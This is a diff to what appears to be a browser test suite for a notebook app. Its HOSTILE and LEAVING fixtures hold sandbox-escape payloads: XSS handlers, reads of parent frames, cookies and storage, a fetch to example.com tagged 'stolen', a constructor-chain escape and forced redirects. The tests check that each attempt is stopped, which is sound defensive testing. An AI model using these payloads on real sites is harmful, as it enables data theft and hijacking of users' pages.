@@ -18,25 +18,26 @@ const HOSTILE = `<!doctype html>
     <img src="data:," onerror="document.body.dataset.html = 'ran'"><svg onload="window.hostile = 1"></svg>
   </script>
   <script id="2" type="module">
-    const attempt = async (name, run) => { try { return name + ': ' + (await run()); } catch { return name + ': stopped'; } };
+    const late = () => new Promise((_, fail) => setTimeout(fail, 3000));
+    const attempt = async (name, run) => { try { return name + ': ' + (await Promise.race([run(), late()])); } catch { return name + ': stopped'; } };
     const attempts = await Promise.all([
-      attempt('page', () => { parent.parent.hostile = 1; return 'reached'; }),
-      attempt('document', () => parent.document.title),
-      attempt('storage', () => localStorage.length),
-      attempt('database', () => indexedDB.databases().then(() => 'reached')),
+      attempt('page', () => { window.parent.parent.hostile = 1; return 'reached'; }),
+      attempt('document', () => window.parent.document.title),
+      attempt('storage', () => window.localStorage.length),
+      attempt('database', () => window.indexedDB.databases().then(() => 'reached')),
       attempt('cookies', () => document.cookie + 'reached'),
       attempt('network', () => fetch('https://example.com/?stolen').then(() => 'reached')),
       attempt('own host', () => fetch('./models/').then(() => 'reached')),
       attempt('image', () => new Promise((done, fail) => { const i = new Image(); i.onload = () => done('reached'); i.onerror = fail; i.src = 'https://example.com/a.png'; })),
       attempt('worker', () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('reached'); w.onerror = fail; })),
-      attempt('window', () => (open('https://example.com/') ? 'reached' : Promise.reject())),
+      attempt('window', () => (window.open('https://example.com/') ? 'reached' : Promise.reject())),
       attempt('keys', () => lab.keys()),
       attempt('prototype', () => lab.constructor.constructor('return parent.document.title')())
     ]);
     for (const line of attempts) display(html\`<p>\${line}\`);
   </script>
   <script id="3" type="module">
-    top.location = 'https://example.com/?moved';
+    window.top.location = 'https://example.com/?moved';
   </script>
 </notebook>`;
 
@@ -54,9 +55,12 @@ const LEAVING = `<!doctype html>
 <notebook theme="air">
   <title>Leaving</title>
   <script id="1" type="module">
-    location.href = 'https://example.com/?carried=away';
+    window.location.href = 'https://example.com/?carried=away';
   </script>
 </notebook>`;
+
+/** Two busy cores are slow to show what was typed. */
+const PATIENT = { timeout: 30_000 };
 
 describe('notebooks', () => {
   let browser: Browser;
@@ -98,7 +102,7 @@ describe('notebooks', () => {
   it('are listed, and nothing serious is found by axe', async () => {
     await guest.page.goto(`${lab.url}#/notebooks`);
     const list = guest.page.getByRole('region', { name: 'With the lab' }).getByRole('link');
-    await expect.poll(() => list.count()).toBe(7);
+    await expect.poll(() => list.count(), PATIENT).toBe(7);
     expect(await seriousViolations(guest.page)).toEqual([]);
   });
 
@@ -116,7 +120,7 @@ describe('notebooks', () => {
     expect(await reader.cell(4).innerText()).toContain('72 dialogues');
     const lines = ['{"messages":[{"role":"user","content":"I feel low."},{"role":"assistant","content":"I am here."}]}', '{"messages": 3}'];
     await reader.frame.getByLabel('Your data').setInputFiles({ name: 'chats.jsonl', mimeType: 'application/json', buffer: Buffer.from(lines.join('\n')) });
-    await expect.poll(() => reader.cell(4).innerText(), { timeout: 30_000 }).toMatch(/1 dialogues, 1 records left out/);
+    await expect.poll(() => reader.cell(4).innerText(), PATIENT).toMatch(/1 dialogues, 1 records left out/);
     expect(await reader.cell(4).innerText()).toContain('chats.jsonl');
   });
 
@@ -125,7 +129,7 @@ describe('notebooks', () => {
     await expectSound();
     const csv = ['Wall time,Step,Value', ...Array.from({ length: 30 }, (_, i) => `${i},${i + 1},${3 - i / 20}`)].join('\n');
     await reader.frame.getByLabel('Your logs').setInputFiles({ name: 'board.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
-    await expect.poll(() => reader.cell(9).innerText(), { timeout: 30_000 }).toMatch(/board\.csv\s+30\s+1\.550/);
+    await expect.poll(() => reader.cell(9).innerText(), PATIENT).toMatch(/board\.csv\s+30\s+1\.550/);
     await expectSound();
   });
 
@@ -135,7 +139,7 @@ describe('notebooks', () => {
     const tokens = async (): Promise<number> => Number(/Raw\s+\d+\s+\d+\s+(\d+)/.exec(await reader.cell(8).innerText())?.[1]);
     const before = await tokens();
     await reader.rewrite(4, 'const budget = 128;');
-    await expect.poll(tokens, { timeout: 30_000 }).toBeLessThanOrEqual(128 - 24);
+    await expect.poll(tokens, PATIENT).toBeLessThanOrEqual(128 - 24);
     expect(before).toBeGreaterThan(128 - 24);
     const undo = guest.page.getByRole('button', { name: 'Back to the original' });
     await undo.waitFor();
@@ -148,7 +152,7 @@ describe('notebooks', () => {
     await reader.settled();
     expect(await tokens()).toBeLessThanOrEqual(128 - 24);
     await undo.click();
-    await expect.poll(tokens, { timeout: 30_000 }).toBe(before);
+    await expect.poll(tokens, PATIENT).toBe(before);
     expect(await undo.count()).toBe(0);
     await expectSound();
   });
@@ -160,12 +164,12 @@ describe('notebooks', () => {
     await reader.settled();
     expect(await reader.cell(2).innerText()).toContain('I so tired');
     await reader.rewrite(2, 'const half = ;');
-    await expect.poll(() => reader.failures()).toEqual([expect.stringContaining('SyntaxError')]);
+    await expect.poll(() => reader.failures(), PATIENT).toEqual([expect.stringContaining('SyntaxError')]);
     await reader.frame.getByRole('group', { name: 'Add a cell after cell 2' }).getByRole('button', { name: 'Add Markdown after cell 2' }).focus();
     await guest.page.keyboard.press('Enter');
     await guest.page.keyboard.type('*Still* here');
     await guest.page.keyboard.press('Shift+Enter');
-    await expect.poll(() => reader.cell(3).locator('em').innerText()).toBe('Still');
+    await expect.poll(() => reader.cell(3).locator('em').innerText(), PATIENT).toBe('Still');
   });
 
   /** Brings a notebook in from a file, as a person who starts at the list. */
@@ -191,13 +195,13 @@ describe('notebooks', () => {
     expect(await brought.frame.locator('body').getAttribute('data-html')).toBeNull();
 
     await page.getByRole('button', { name: 'Run this notebook' }).click();
-    await expect.poll(() => brought.cell(2).locator('p').count(), { timeout: 30_000 }).toBe(12);
+    await expect.poll(() => brought.cell(2).locator('p').count(), PATIENT).toBe(12);
     const outcomes = await brought.cell(2).locator('p').allInnerTexts();
     expect(outcomes.filter((line) => !line.endsWith(': stopped'))).toEqual([]);
 
     await bring(stranger, 'leaving.html', LEAVING);
     await page.getByRole('button', { name: 'Run this notebook' }).click();
-    await expect.poll(() => stranger.errors.join('\n'), { timeout: 30_000 }).toMatch(/frame-src|default-src/);
+    await expect.poll(() => stranger.errors.join('\n'), PATIENT).toMatch(/frame-src|default-src/);
     expect(page.url()).toContain('#/notebooks/');
     expect(stranger.context.pages()).toHaveLength(1);
     expect(await page.evaluate(() => 'hostile' in window)).toBe(false);
@@ -211,12 +215,12 @@ describe('notebooks', () => {
     const dialog = guest.page.getByRole('dialog', { name: 'Allow this notebook?' });
     await run.click();
     await dialog.getByRole('button', { name: 'Don’t allow' }).click();
-    await expect.poll(() => asking.failures()).toEqual([expect.stringContaining('You did not allow')]);
+    await expect.poll(() => asking.failures(), PATIENT).toEqual([expect.stringContaining('You did not allow')]);
 
     await guest.page.reload();
     await run.click();
     await dialog.getByRole('button', { name: 'Allow', exact: true }).click();
-    await expect.poll(() => asking.cell(1).innerText()).toMatch(/\d+ conversations/);
+    await expect.poll(() => asking.cell(1).innerText(), PATIENT).toMatch(/\d+ conversations/);
   });
 
   describe('with the embedded model', () => {
